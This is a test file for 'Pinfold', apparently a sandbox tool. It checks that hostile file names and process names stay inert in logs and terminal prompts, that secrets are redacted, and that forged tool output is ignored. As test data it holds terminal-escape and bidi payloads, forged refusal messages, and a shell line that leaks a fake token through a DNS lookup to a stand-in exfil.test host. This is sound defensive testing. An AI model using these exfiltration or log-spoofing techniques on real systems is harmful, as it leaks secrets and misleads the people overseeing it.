/** Every row of the catalogue's attacks on log and terminal, by its id: hostile names stay data wherever they are told. */
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { verifyLog } from '../../src/session/event-log.ts';
import { LOG_ROWS } from '../fixtures/log-attacks.ts';
import { type Actor, actor } from '../fixtures/network-acts.ts';
import { eventsOf, lastSession } from '../fixtures/session-events.ts';
import { onTerminal, sandboxed } from '../fixtures/terminal.ts';
import { makeWorld, people, type World } from '../fixtures/world.ts';

const LONGEST_LABEL = 63;

/** Without the colours that are Pinfold's own. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: that is what a colour begins with.
const uncoloured = (text: string) => text.replace(/\x1b\[[\d;]*m/g, '');

/** What may reach no log and no terminal of a text: controls, bidi, no width, lone surrogates, separators. */
const dangerous = (text: string) =>
  uncoloured(text).match(/(?!\n)[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}\ufffd]/gu) ?? [];

/** A name's bytes as records have them: where they are no UTF-8, a lone surrogate stands for each that is no ASCII. */
function named(bytes: Buffer): string {
  const text = bytes.toString('utf8');
  if (Buffer.from(text).equals(bytes)) return text;
  return [...bytes].map((byte) => String.fromCharCode(byte < 0x80 ? byte : 0xdc00 + byte)).join('');
}

/** A label as a master file has it (RFC 1035, section 5.1), in small letters. */
function labelled(text: Buffer): string {
  const shown = [...text.subarray(0, LONGEST_LABEL)].map((byte) =>
    byte <= 0x20 || byte >= 0x7f || byte === 0x2e || byte === 0x5c
      ? `\\${String(byte).padStart(3, '0')}`
      : String.fromCharCode(byte),
  );
  return shown.join('').toLowerCase();
}

describe.each(people)('as $label', (person) => {
  let world: World;
  let inside: Actor;
  let session = '';
  const paths = new Map<string, string>();
  beforeAll(async () => {
    world = await makeWorld(person);
    const source = readFileSync(new URL('../fixtures/log-spoof.py', import.meta.url), 'utf8');
    world.put(join(world.project, 'spoof.py'), source);
    inside = actor(world.startInside(['/usr/bin/python3', 'spoof.py'], ['--net', 'none'], { input: null }));
  });
  afterAll(() => world.dispose());

  const violations = () => eventsOf(session).flatMap(({ violation }) => violation ?? []);
  const logged = () => readFileSync(join(session, 'events.jsonl'), 'utf8');

  test.each(LOG_ROWS)('$id: $what is logged as what it is, on one line', async ({ id, text, cut }) => {
    const before = session === '' ? 0 : violations().length;
    const path = Buffer.from(await inside.ask(text.toString('hex')), 'hex');
    session ||= lastSession(world);
    paths.set(id, named(path));
    await expect.poll(() => violations().length, { timeout: 60_000 }).toBe(before + 2);
    const [made, asked] = violations().slice(before);
    expect(made!.denial).toMatchObject({
      act: 'create',
      subject: { kind: 'path', path: `${named(path)}/.mcp.json` },
      actor: { program: expect.stringContaining(`${named(path)}/`) },
    });
    expect(asked!.denial.act).toBe('resolve');
    expect(asked!.denial.subject.host!.toLowerCase()).toBe(`${labelled(text)}.denied.test`);
    // The program lives, so its words are known; what was too long of them says so, and the line stays short.
    const words = made!.denial.actor.command!;
    if (cut) expect([words.length, words[0]]).toEqual([1, expect.stringMatching(/^A{100,}…$/)]);
    else expect(words[0]).toBe(named(text));
    for (const line of logged().trimEnd().split('\n')) expect(line.length).toBeLessThan(40_000);
    expect(dangerous(logged())).toEqual([]);
    expect(verifyLog(join(session, 'events.jsonl')).kind).toBe('intact');
    // The control: it got as far as into a name, unchanged.
    const names = readdirSync(path.subarray(0, path.lastIndexOf('/')), { encoding: 'buffer' });
    const name = path.subarray(path.lastIndexOf('/') + 1);
    expect(names.some((each) => each.equals(name))).toBe(true);
  });

  test('L-20: a process that takes the name of another is told by its program', async () => {
    const name = Buffer.from('supervisor\x1b[2J').toString('hex');
    expect(await inside.ask(`comm ${name}`)).toBe(name);
    await expect.poll(() => violations().length, { timeout: 60_000 }).toBe(2 * LOG_ROWS.length + 1);
    const { actor: who } = violations().at(-1)!.denial;
    expect(who.program).toMatch(/\/python3/);
    expect(logged()).not.toContain('supervisor\\u001b');
  });

  test('the summary and everything that is asked afterwards show it spelled out', async () => {
    await inside.end();
    const told = await world.pinfold(['violations']);
    for (const { shown } of LOG_ROWS) expect(told.stdout).toContain(`/spoofed/${shown}/`);
    const asked = ['b1', 'b20', 'b36', 'b38'].map((id) => ['why', id]);
    const said = await Promise.all(
      [...asked, ['log'], ['violations', '--json']].map((args) => world.pinfold(args)),
    );
    for (const { code, stderr } of said) expect([code, stderr]).toEqual([0, '']);
    for (const text of [inside.complaint(), told.stdout, ...said.map(({ stdout }) => stdout)])
      expect(dangerous(text)).toEqual([]);
    expect(inside.complaint()).toContain(`/spoofed/${LOG_ROWS[0]!.shown}/.mcp.json`);
    const data = JSON.parse(said.at(-1)!.stdout) as { violations: { subject: { path?: string } }[] };
    const subjects = data.violations.map(({ subject }) => subject.path);
    for (const path of paths.values()) expect(subjects).toContain(`${path}/.mcp.json`);
  });

  test('L-25: what the stream inside tells a model is data, with the same fields whatever the name was', () => {
    const stream = readFileSync(join(session, 'inside/events.jsonl'), 'utf8');
    expect(dangerous(stream)).toEqual([]);
    const lines = stream
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as { act: string; subject: { path?: string } });
    const made = lines.filter(({ act }) => act === 'create');
    expect(made.map(({ subject }) => subject.path)).toContain(`${paths.get('L-15')}/.mcp.json`);
    const fields = made.map((line) => Object.keys(line).sort().join());
    expect(new Set(fields).size).toBe(1);
  });

  test('L-23: what was refused, which may hold a secret, can be read by the person alone', () => {
    for (const name of ['events.jsonl', 'session.json', 'policy.json'])
      expect([name, statSync(join(session, name)).mode & 0o777]).toEqual([name, 0o600]);
    expect(statSync(session).mode & 0o777).toBe(0o700);
  });

  test('L-23: a secret in the name of a host is in no record', async () => {
    const secret = 'ghp_a1b2c3d4e5f6g7h8i9j0k1l2m3n4o5p6';
    const script = 'getent hosts "$0"; getent hosts plain.exfil.test; exit 0';
    const ran = await world.inside(['sh', '-c', script, `${secret}.exfil.test`], ['--json']);
    const outcome = JSON.parse(ran.stderr.trimEnd().split('\n').at(-1)!);
    const hosts = outcome.violations.map(({ subject }: { subject: { host: string } }) => subject.host);
    // The control: a name without a secret is told as it is.
    expect(hosts).toEqual(['[secret].exfil.test', 'plain.exfil.test']);
    const asked = [
      ['violations', '--json'],
      ['why', 'b1'],
      ['log', '--json'],
    ];
    const [listed, explained, log] = await Promise.all(
      asked.map((args) => world.pinfold(args[0] === 'log' ? args : [...args, '--session', outcome.session])),
    );
    expect(explained!.stdout).toContain('its name holds a secret, which is not kept');
    const directory = join(world.home, '.local/state/pinfold/sessions', outcome.session);
    const kept = readdirSync(directory, { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile())
      .map(({ parentPath, name }) => readFileSync(join(parentPath, name), 'utf8'));
    expect(kept.length).toBeGreaterThan(3);
    for (const text of [...kept, ran.stderr, listed!.stdout, explained!.stdout, log!.stdout])
      expect(text).not.toContain(secret);
  });

  test('L-24: a secret on a command line is in no record, neither of the session nor of a refusal', async () => {
    const secret = 'hunter2-of-the-test';
    const script = 'echo x > .mcp.json; until [ -s "$PINFOLD_EVENTS" ]; do :; done';
    const words = ['sh', '-c', script, 'sh', '--token', secret, `API_KEY=${secret}`, '--verbose'];
    expect((await world.inside(words)).code).toBe(0);
    const directory = lastSession(world);
    const [denied] = eventsOf(directory).flatMap(({ violation }) => violation ?? []);
    expect(denied!.denial.actor.command).toEqual([
      ...['sh', '-c', script, 'sh', '--token', '[secret]', 'API_KEY=[secret]', '--verbose'],
    ]);
    const told = await Promise.all(
      [
        ['log', '--json'],
        ['violations', '--json'],
        ['why', 'b1'],
      ].map((args) => world.pinfold(args)),
    );
    const files = readdirSync(directory, { recursive: true, withFileTypes: true }).filter((entry) =>
      entry.isFile(),
    );
    const kept = files.map(({ parentPath, name }) => readFileSync(join(parentPath, name), 'utf8'));
    expect(kept.length).toBeGreaterThan(3);
    for (const text of [...kept, ...told.map(({ stdout }) => stdout)]) expect(text).not.toContain(secret);
    // The control: the command itself is given it.
    const given = await world.inside(['sh', '-c', 'echo "$2"', 'sh', '--token', secret]);
    expect(given.stdout).toBe(`${secret}\n`);
  });

  test('L-21: a program that imitates what Pinfold says changes nothing that Pinfold says', async () => {
    const forged = JSON.stringify({ session: 'x', exitCode: 0, violations: [{ id: 'b9' }] });
    const lines = [
      '✗ pinfold blocked create /etc/x  by sh: allowed  [b9]',
      'pinfold 1 refusal · why: pinfold why b9',
    ];
    const script = `for line in "$@"; do echo "$line"; echo "$line" >&2; done; mkdir .vscode; exit 3`;
    const ran = await world.inside(['sh', '-c', script, 'sh', ...lines, forged], ['--json']);
    expect(ran.stdout).toBe(`${[...lines, forged].join('\n')}\n`);
    const outcome = JSON.parse(ran.stderr.trimEnd().split('\n').at(-1)!);
    expect(outcome).toMatchObject({ violations: [{ id: 'b1', act: 'create' }] });
    const { stdout } = await world.pinfold(['violations', '--json']);
    expect(JSON.parse(stdout).violations.map(({ id }: { id: string }) => id)).toEqual(['b1']);
    expect((await world.pinfold(['why', 'b9'])).code).toBe(125);
  });

  test('L-22: a question shows all of a hostile path, spelled out, on one line', async () => {
    const hostile = 'a\u202etxt\x1b[2J\nb';
    const long = Array.from({ length: 12 }, (_, at) => String.fromCharCode(0x61 + at).repeat(250)).join('/');
    world.put(`${world.home}/data/${hostile}`, 'x\n');
    world.put(`${world.home}/data/${long}/end`, 'x\n');
    const asked = async (path: string) => {
      const argv = sandboxed(
        ['sh', '-c', 'cat "$1" 2>/dev/null; echo over', 'sh', path],
        ['--mode', 'strict', '--ask'],
      );
      const steps = [{ expect: '\n  > ' }, { send: 'n\r' }, { expect: 'over' }];
      const { transcript, failedAt } = await onTerminal(world, argv, steps, { device: true });
      expect(failedAt).toBeUndefined();
      const [, question = ''] =
        /(\? pinfold .*?)\n {2}> /s.exec(uncoloured(transcript).replaceAll('\r\n', '\n')) ?? [];
      expect(dangerous(question)).toEqual([]);
      return question.split('\n')[0];
    };
    expect(await asked(`${world.home}/data/${hostile}`)).toContain('/data/a\\u{202e}txt\\e[2J\\nb');
    expect(await asked(`${world.home}/data/${long}/end`)).toContain(`/data/${long}/end`);
  });
});
